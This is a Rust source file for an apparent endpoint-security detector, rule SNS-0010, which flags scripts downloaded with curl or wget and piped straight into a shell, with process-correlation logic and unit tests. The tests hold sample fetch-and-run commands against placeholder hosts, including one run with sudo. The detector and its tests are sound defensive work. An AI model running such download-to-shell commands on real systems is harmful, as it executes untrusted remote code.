//! SNS-0010 download piped into a shell: `curl ... | sh`, `wget -O- ... | bash`.
//!
//! A pipeline shows up as siblings: the shell that reads the script from stdin (no
//! script file, no -c) and the downloader, started by the same parent within a couple of
//! seconds. A `sh -c '...'` whose command text pipes a downloader into a shell is
//! recognised from its command line directly.

use std::collections::HashMap;

use sensor_common::EventKind;

use super::{Detector, Finding, Response, Rule, base_name, is_shell};
use crate::proto;

pub const RULE: Rule = Rule {
    id: "SNS-0010",
    title: "Download piped into a shell",
    description: "A script fetched from the network was fed straight into a shell.",
    severity: "high",
    mitre: &["T1105", "T1059.004"],
    response: Response::Report,
};

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c"];
/// Members of one pipeline are started back to back.
const SIBLING_WINDOW_NS: u64 = 1_000_000_000;
const MAX_PARENTS: usize = 4096;

#[derive(Default, Clone)]
struct Recent {
    downloader: Option<(u64, u64, String)>,
    shell: Option<(u64, u64, proto::Process)>,
    reported: bool,
}

#[derive(Default)]
pub struct DownloadExec {
    /// Parent key -> its most recent downloader and stdin-reading shell children.
    parents: HashMap<(u32, u64), Recent>,
}

/// Whether the downloader sends what it fetched to stdout (curl's default; wget's only
/// with `-O -`): saving to a file feeds nothing into a pipe.
fn writes_stdout(exe: &str, args: &[String]) -> bool {
    let rest = || args.iter().skip(1);
    match base_name(exe) {
        "curl" => !rest().any(|a| {
            a == "-o"
                || a == "-O"
                || a.starts_with("--output")
                || a == "--remote-name"
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && (a.ends_with('o') || a.ends_with('O')))
        }),
        "wget" => {
            let v: Vec<&String> = rest().collect();
            v.windows(2)
                .any(|w| (w[0] == "-O" || w[0].ends_with("O")) && w[1] == "-")
                || v.iter().any(|a| {
                    a.as_str() == "--output-document=-" || (a.starts_with('-') && a.ends_with("O-"))
                })
        }
        _ => true,
    }
}

/// A shell started to read its script from stdin: `sh`, `bash -s`, `sh -`.
fn reads_stdin(p: &proto::Process) -> bool {
    is_shell(&p.exe)
        && p.args
            .iter()
            .skip(1)
            .all(|a| a.starts_with('-') && a != "-c")
}

/// `... curl URL | sh` inside a command string.
pub fn pipes_download_to_shell(cmd: &str) -> bool {
    cmd.split('|').collect::<Vec<_>>().windows(2).any(|w| {
        let fetches = w[0]
            .split_whitespace()
            .any(|t| DOWNLOADERS.contains(&base_name(t)));
        let mut next = w[1].split_whitespace().skip_while(|t| *t == "sudo");
        fetches && next.next().is_some_and(is_shell)
    })
}

impl Detector for DownloadExec {
    fn rules(&self) -> &'static [&'static Rule] {
        &[&RULE]
    }

    fn inspect(&mut self, kind: Option<EventKind>, e: &proto::Event, out: &mut Vec<Finding>) {
        if kind != Some(EventKind::ProcessExec) {
            return;
        }
        let Some(p) = &e.process else { return };
        if is_shell(&p.exe)
            && let Some(cmd) = p.args.iter().skip_while(|a| *a != "-c").nth(1)
            && pipes_download_to_shell(cmd)
        {
            out.push(Finding {
                rule: &RULE,
                process: p.clone(),
                evidence: vec![e.seq],
                details: vec![("command", cmd.clone())],
            });
            return;
        }
        let Some(parent) = p.ancestors.first() else {
            return;
        };
        let key = (parent.pid, parent.start_time);
        if self.parents.len() >= MAX_PARENTS && !self.parents.contains_key(&key) {
            let horizon = e.timestamp_ns.saturating_sub(SIBLING_WINDOW_NS);
            self.parents.retain(|_, r| {
                let t = r
                    .downloader
                    .as_ref()
                    .map(|d| d.1)
                    .max(r.shell.as_ref().map(|s| s.1));
                t.is_some_and(|t| t >= horizon)
            });
        }
        let r = self.parents.entry(key).or_default();
        if DOWNLOADERS.contains(&base_name(&p.exe)) && writes_stdout(&p.exe, &p.args) {
            r.downloader = Some((e.seq, e.timestamp_ns, p.args.join(" ")));
        } else if reads_stdin(p) {
            r.shell = Some((e.seq, e.timestamp_ns, p.clone()));
        } else {
            return;
        }
        if let (Some((dseq, dts, cmd)), Some((sseq, sts, shell))) = (&r.downloader, &r.shell)
            && !r.reported
            && dts.abs_diff(*sts) <= SIBLING_WINDOW_NS
        {
            r.reported = true;
            out.push(Finding {
                rule: &RULE,
                process: shell.clone(),
                evidence: vec![*dseq.min(sseq), *dseq.max(sseq)],
                details: vec![("downloader", cmd.clone())],
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::pipes_download_to_shell;

    #[test]
    fn command_strings() {
        assert!(pipes_download_to_shell(
            "curl -fsSL https://x.example/i.sh | sh"
        ));
        assert!(pipes_download_to_shell("wget -qO- http://x | sudo bash"));
        assert!(!pipes_download_to_shell(
            "curl -o out.txt https://x | grep ok"
        ));
        assert!(!pipes_download_to_shell("cat script.sh | sh"));
    }

    #[test]
    fn downloaders_writing_to_stdout() {
        let a = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(super::writes_stdout(
            "/usr/bin/curl",
            &a(&["curl", "-fsSL", "https://x"])
        ));
        assert!(!super::writes_stdout(
            "/usr/bin/curl",
            &a(&["curl", "-so", "f", "https://x"])
        ));
        assert!(!super::writes_stdout(
            "/usr/bin/wget",
            &a(&["wget", "https://x"])
        ));
        assert!(super::writes_stdout(
            "/usr/bin/wget",
            &a(&["wget", "-qO-", "https://x"])
        ));
        assert!(super::writes_stdout(
            "/usr/bin/wget",
            &a(&["wget", "-O", "-", "https://x"])
        ));
    }
}
